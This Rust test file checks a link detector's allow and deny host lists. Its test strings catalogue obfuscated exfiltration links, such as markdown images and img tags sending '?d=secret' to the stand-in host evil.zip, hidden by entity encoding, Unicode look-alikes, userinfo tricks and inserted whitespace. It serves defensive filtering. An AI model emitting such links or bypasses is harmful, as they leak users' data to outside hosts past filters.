//! Tests of links.

use super::{Open, Urls};
use crate::segment::Segments;
use std::cell::Cell;

thread_local! {
    static VISITED: Cell<usize> = const { Cell::new(0) };
}

/// Notes how many bytes were looked at to find where a link ends.
pub(super) fn note_visited(bytes: usize) {
    VISITED.set(VISITED.get() + bytes);
}

/// What is found in a text as it is cut into segments.
fn found(urls: &Urls, text: &str) -> Vec<String> {
    let (mut out, mut open, bytes) = (Vec::new(), Open::default(), text.as_bytes());
    Segments::default().visit(bytes, 0, true, &mut out, |segment, out| {
        urls.scan(bytes, segment, &mut open, out);
    });
    out.iter().map(|finding| text[finding.start..finding.end].to_owned()).collect()
}

#[test]
fn links_need_no_scheme() {
    let only = Urls::new(&["good.example".into()], &[]);
    for (text, want) in [
        ("see https://bad.example/a.", vec!["https://bad.example/a"]),
        ("see www.bad.example/x, please", vec!["www.bad.example/x"]),
        ("see WWW.Bad.Example", vec!["WWW.Bad.Example"]),
        ("see bad.com/x?y=1", vec!["bad.com/x?y=1"]),
        ("see //bad.com/x", vec!["//bad.com/x"]),
        ("at bad.io:8080", vec!["bad.io:8080"]),
        ("(bad.com/x)", vec!["bad.com/x"]),
        ("www.good.example/x and sub.good.example/y", vec![]),
        ("mail jane.doe@bad.com about it", vec![]),
        ("e.g. either/or, v1.2/3, src/main.rs, a.b", vec![]),
        ("bad.com is a host", vec![]),
        ("two bad.com/x then www.bad.org", vec!["bad.com/x", "www.bad.org"]),
    ] {
        assert_eq!(found(&only, text), want, "{text}");
    }
    let not = Urls::new(&[], &["bad.com".into()]);
    for (text, want) in [
        ("go to bad.com", vec!["bad.com"]),
        ("go to www.bad.com/x", vec!["www.bad.com/x"]),
        ("go to sub.bad.com.", vec!["sub.bad.com"]),
        ("go to notbad.com/x or www.other.org/y", vec![]),
    ] {
        assert_eq!(found(&not, text), want, "{text}");
    }
}

#[test]
fn what_browsers_follow_is_a_link_however_it_is_written() {
    let only = Urls::new(&["good.com".into()], &[]);
    for text in [
        "![a](//evil.zip/?d=secret)",
        "![a](//10.1.2.3/?d=secret)",
        "![a](//167838211/?d=secret)",
        "![a](//0xa.1.2.3/?d=secret)",
        "![a](//[::1]/?d=secret)",
        "![a](///evil.zip/x)",
        "![a](/\\evil.zip/x)",
        "<img src=//evil.zip/x>",
        "<img src='//evil.zip/x'>",
        "<img src=\"\\\\evil.zip/x\">",
        "[a]: //evil.zip/x",
        "[a]://evil.zip/x",
        "https:/evil.zip/x",
        "https:evil.zip/x",
        "HTTPS:\\\\evil.zip\\x",
        "https:/\\evil.zip/x",
        "https&#58;//evil.zip/x",
        "https&#x3a;&sol;&sol;evil&period;zip/x",
        "&#104;ttps&colon;//evil.zip",
        "ht&Tab;tps://evil.zip",
        "![a](//good.com.evil.zip/x)",
        "![a](//good.com@evil.zip/x)",
        "![a](https://good.com|@evil.zip/x)",
        "![a](https://good.com'@evil.zip/x)",
        "![a](//evil%2ezip/x)",
        "![a](//evil\u{ff0e}zip/x)",
        "![a.png](https://evil.zip/x)",
        "[https://good.com/](https://evil.zip/x)",
        "[https://good.com/]:https://evil.zip/x",
        "<a title='https://good.com/'href='https://evil.zip/x'>",
        "<img srcset=\"a.png,//evil.zip/x\">",
        "background:url(//evil.zip/x)",
        "<img src=\"&#00000000000000000047;/evil.zip/?d=s\">",
        "https://evil.zip, so",
        &format!("https://{}a.good.com.evil.zip/x", "%C2%AD".repeat(169)),
    ] {
        let found = found(&only, text);
        assert_eq!(found.len(), 1, "{text}: {found:?}");
    }
    assert_eq!(found(&only, "x ![a](https&#58;//evil.zip/x&amp;y) z"), ["https&#58;//evil.zip/x&amp;y"]);
    for text in [
        "![a](//good.com/x) <img src=//www.good.com/x> https:/good.com/x https&#58;//good.com/",
        "https://good.com:8080/?u=https://evil.zip and https://me@good.com/",
        "//g%6fod.com/x and //\u{ff47}ood.com/x",
        "<a href='https://good.com'>me@evil.zip</a>",
        "{\"a\":\"https://good.com\",\"b\":\"me@evil.zip\"}",
        "x = 1; // TODO evil",
        "//TODO remove",
        "//console.log(x)",
        "a//b.c and ./a//b.c, 10//2.5",
        "http: it is a scheme, https: too, http:\\n",
        "a:b.c and std::io::Error, /etc/passwd.old, \\d+ and C:\\\\dir",
        "x &amp; y, a&b; &copy 2020",
        "https://good.com, https://good.com! **https://good.com** ~https://good.com~ www.good.com, https://good.com; and",
        "https://good.com、 https://good.com》。",
    ] {
        assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn hosts_that_must_not_be_linked_to_are_read_as_browsers_read_them() {
    let not = Urls::new(&[], &["evil.com".into(), "10.1.2.3".into()]);
    for text in [
        "//e%76il.com",
        "https://\u{ff45}vil.com/x",
        "//0x0a010203/",
        "https:/evil.com",
        "//ev\u{ad}il.com/",
        "go to evil.com, please",
        "go to evil.com!",
        "**https://evil.com**",
        "https://evil.com、",
    ] {
        assert_eq!(found(&not, text).len(), 1, "{text}");
    }
    assert_eq!(found(&not, "https://1.3.6.1.4.1.311/ and //1.2.3.4.5.6").len(), 0);
}

#[test]
fn no_part_of_a_host_is_judged_alone() {
    let only = Urls::new(&["good.com".into()], &[]);
    let long = "a".repeat(2100);
    for text in [
        "![a](//中.evil.zip/?d=secret)",
        "![a](//good.com。evil.zip/x)",
        "![a](https://ไทย.good.com.evil.zip/x)",
        "https&#58;//a.good.com。evil.zip/x",
        &format!("![a](https://good.com:{long}@evil.zip/?d=s)"),
        &format!("{}https://good.com:{long}@evil.zip/?d=s)", "x,".repeat(400)),
    ] {
        assert!(!found(&only, text).is_empty(), "{text}");
    }
    for text in [
        "![a](//good.com/中文) 见 https://good.com/路径 和 www.good.com/x。好",
        &format!("https://good.com/{long}"),
        &format!("{{\"a\":\"{long}\",\"b\":\"https://good.com/x\"}}"),
    ] {
        assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
    }
}

#[test]
fn what_browsers_leave_out_of_links_ends_none() {
    let only = Urls::new(&["good.com".into()], &[]);
    let many = "\n".repeat(300);
    for text in [
        "<img src=\"https://good.com\n.evil.zip/?d=s\">",
        "<img src='https://good.com\t.evil.zip/?d=s'>",
        "<img src=\"https://\nevil.zip/?d=s\">",
        "<img src=\"https:/\n/evil.zip/?d=s\">",
        "<img src=\"ht\ntps:/evil.zip/?d=s\">",
        "<img src=\"h\nt\tt\rp\ns\n:evil.zip/?d=s\">",
        "<img src=\"/\n/evil.zip/?d=s\">",
        "<img src=\"//good.com\n@evil.zip/?d=s\">",
        "{\"url\": \"https://good.com\n\n\n.evil.zip/x\"}",
        &format!("<img src=\"https://good.com{many}.evil.zip/?d=s\">"),
        &format!("<img src=\"//good.com:{}\n@evil.zip/?d=s\">", "a".repeat(1100)),
        &format!("<img src=\"https://a:{}\n@evil.zip/?d=s\">", format!("\n{}", "a".repeat(200)).repeat(10)),
        &format!("<img src=\"//good.com{}@evil.zip/?d=s\">", "\n.a".repeat(20)),
    ] {
        assert_eq!(found(&only, text).len(), 1, "{text:?}: {:?}", found(&only, text));
    }
    for text in [
        "see https://good.com\nevil.zip/x is none",
        "\"https://good.com\",\n\"other\": \"a.b\"",
        "say \"\nhttps://good.com/x\n\"",
        "it's h\nello.world, 'https://good.com/a'\nnext.line",
        "<img src=\"https://good.com/\n.evil.zip\">",
    ] {
        assert_eq!(found(&only, text), Vec::<String>::new(), "{text:?}");
    }
}

#[test]
fn hosts_go_on_behind_signs_of_other_scripts_and_quotes() {
    let only = Urls::new(&["good.com".into()], &[]);
    let (long, wide) = ("a".repeat(70), "中".repeat(70));
    for text in [
        "![a](https://good.com\u{ff0f}@evil.zip/?d=s)",
        "![a](https://good.com\u{ff0c}@evil.zip/?d=s)",
        "![a](https://good.com\u{3000}@evil.zip/?d=s)",
        "![a](https://good.com\u{2003}@evil.zip/?d=s)",
        "![a](https://good.com\u{ff1f}x.evil.zip/?d=s)",
        "![a](https://good.com'.evil.zip/?d=s)",
        "![a](https://good.com\".evil.zip/?d=s)",
        "![a](https://good.com`.evil.zip/?d=s)",
        "![a](https://good.com}.evil.zip)",
        "see https://good.com'.evil.zip/?d=s now",
        "see https://good.com).evil.zip now",
        &format!("![a](https://good.com:{long}中@evil.zip/?d=s)"),
        &format!("![a](https://good.com:{wide}@evil.zip/?d=s)"),
        &format!("![a](//{long}中.evil.zip/?d=s)"),
        &format!("![a](https://good.com:{long}，@evil.zip/?d=s)"),
        "请看https://good.com。公司",
    ] {
        assert_eq!(found(&only, text).len(), 1, "{text}: {:?}", found(&only, text));
    }
    for text in [
        "请看https://good.com，然后再说",
        "请看https://good.com然后再说。",
        "请看https://good.com，node.js很好",
        "请看https://good.com，这是3.5版本",
        "见（https://good.com）。然后",
        "fetch('https://good.com').then(x.y)",
        "[\"https://good.com\",\"foo.bar\"]",
        "(https://good.com).Then",
        "<a href=\"https://good.com\">me.too</a>",
    ] {
        assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
    }
    let not = Urls::new(&[], &["evil.com".into()]);
    for text in [&format!("go to {}.evil.com now", "ü".repeat(40)), "evil.com谢谢", "at evil.com，好"] {
        assert_eq!(found(&not, text).len(), 1, "{text}");
    }
}

#[test]
fn comments_are_no_links() {
    let only = Urls::new(&["good.com".into()], &[]);
    for text in [
        "//config.timeout = 3",
        "foo(); //config.timeout",
        "foo();//config.timeout=3",
        "{//config.timeout",
        "x = 1 //self.value, //obj.name(x) //this.id=4",
        "//TODO.fixme //a.b //v1.2",
    ] {
        assert_eq!(found(&only, text), Vec::<String>::new(), "{text}");
    }
    for text in [
        "see //evil.zip now",
        "//evil.net",
        "{//evil.zip/x}",
        "\"//any.thing\"",
        "//evil.rs?x",
        "see //10.1.2.3",
    ] {
        assert_eq!(found(&only, text).len(), 1, "{text}");
    }
}

#[test]
fn no_byte_is_looked_at_for_each_link_that_may_begin_before_it() {
    let (only, not) = (Urls::new(&["good.com".into()], &[]), Urls::new(&[], &["evil.com".into()]));
    for piece in [
        "a.",
        "a.a/",
        "a.a,",
        "http:",
        "http:a.b,",
        "http:a.b@",
        "://",
        "//a.b@",
        "a@",
        "//",
        "&#58;//",
        "a.b](",
        "x://a",
        "\"http://a\n.\n.\n",
    ] {
        let text = piece.repeat((16 << 10) / piece.len());
        for urls in [&only, &not] {
            VISITED.set(0);
            found(urls, &text);
            assert!(VISITED.get() <= text.len() * 5, "{piece}: {} of {}", VISITED.get(), text.len());
        }
    }
}
